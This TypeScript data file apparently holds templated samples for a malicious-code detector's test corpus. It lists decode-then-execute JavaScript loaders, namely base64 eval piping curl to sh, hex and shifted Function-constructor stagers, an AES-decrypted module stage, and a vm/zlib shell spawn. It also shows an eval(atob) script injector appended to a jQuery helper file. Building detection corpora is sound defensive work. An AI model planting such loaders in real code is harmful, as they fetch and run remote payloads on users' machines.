// JavaScript that runs what it decodes first, in Node and in browsers.
import type { Family } from './family.ts'

export const decodedExecNode: readonly Family[] = [
  {
    family: 'node-eval-buffer',
    positive: true,
    classes: ['decoded-exec'],
    variants: [
      {
        paths: ['index.js', 'lib/format.js'],
        body: `eval(Buffer.from('⟦b64:require("child_process").exec("curl -s http://⟦ip⟧:⟦por⟦join⟧
t⟧/l | sh")⟧', 'base64').toString())`,
      },
    ],
  },
  {
    family: 'node-function-constructor',
    positive: true,
    classes: ['decoded-exec'],
    variants: [
      {
        paths: ['lib/cache.js'],
        body: `;(function () {
  var n = '⟦hexed:const h=require("https");h.get("https://⟦host⟧/stage2.js",r=>{let d="";r.on("dat⟦join⟧
a",c=>d+=c);r.on("end",()=>Function("require",d)(require))})⟧'
  var m = module.constructor.prototype._compile
  new Function('require', n.match(/../g).map(function (c) { return String.fromCharCode(parseInt(c⟦join⟧
, 16)) }).join(''))(require)
})()`,
      },
      {
        paths: ['src/helpers/time.js'],
        body: `const t = [⟦shifted:require('https').get('https://⟦host⟧/v',r=>r.on('data',d=>⟦join⟧
eval(''+d)))⟧];
[].constructor.constructor('require', t.map(c => String.fromCharCode(c - 7)).join(''))(require);`,
      },
    ],
  },
  {
    family: 'node-aes-stage',
    positive: true,
    classes: ['decoded-exec', 'obfuscation'],
    variants: [
      {
        paths: ['index.js'],
        imports: `var crypto = require('crypto');`,
        body: `/* generated */
(function () {
  try {
    var data = require('./test/data');
    var description = process.env[hexed('⟦hexed:npm_package_description⟧')];
    if (!description) return;
    var decipher = crypto.createDecipher(hexed('⟦hexed:aes256⟧'), description);
    var source = decipher.update(data[0], 'hex', 'utf8') + decipher.final('utf8');
    var child = new module.constructor();
    child.paths = module.paths;
    child._compile(source, '');
    child.exports(data[1]);
  } catch (e) {}
  function hexed(s) { return Buffer.from(s, 'hex').toString(); }
})();`,
      },
    ],
  },
  {
    family: 'node-vm-data-url',
    positive: true,
    classes: ['decoded-exec'],
    variants: [
      {
        paths: ['src/robots.mjs'],
        body: `const chunk = '⟦b64:fetch("https://⟦host⟧/c").then(r=>r.text()).then(eval)⟧'
await import('data:text/javascript;base64,' + chunk)`,
      },
      {
        paths: ['lib/parse.js'],
        body: `setImmediate(() => {
  const { runInThisContext } = require('vm')
  const source = require('zlib').inflateSync(Buffer.from('⟦zlib:globalThis.q=require;q("child_proc⟦join⟧
ess").spawn("sh",["-c","curl http://⟦ip⟧/x|sh"])⟧', 'base64'))
  globalThis.require = require
  runInThisContext(source.toString())
})`,
      },
    ],
  },
  {
    family: 'browser-atob-eval',
    positive: true,
    classes: ['decoded-exec'],
    variants: [
      {
        paths: ['public/js/jquery.min.init.js'],
        whole: `/* jQuery migrate helper v1.4.2 */
jQuery(function ($) {
  $('.menu-toggle').on('click', function () {
    $(this).toggleClass('open').next('ul').slideToggle(120);
  });
  $('a[href^="#"]').on('click', function (event) {
    event.preventDefault();
    $('html, body').animate({ scrollTop: $(this.hash).offset().top }, 300);
  });
});
;eval(atob('⟦b64:var s=document.createElement("script");s.src="https://⟦host⟧/chk.js?d="+location.⟦join⟧
host;document.head.appendChild(s);⟧'));`,
      },
      {
        paths: ['web/assets/ua.js'],
        body: `setTimeout(unescape('⟦percent:document.write("<script src=//⟦host⟧/p.js></scri⟦join⟧
pt>")⟧'), 0);`,
      },
    ],
  },
]
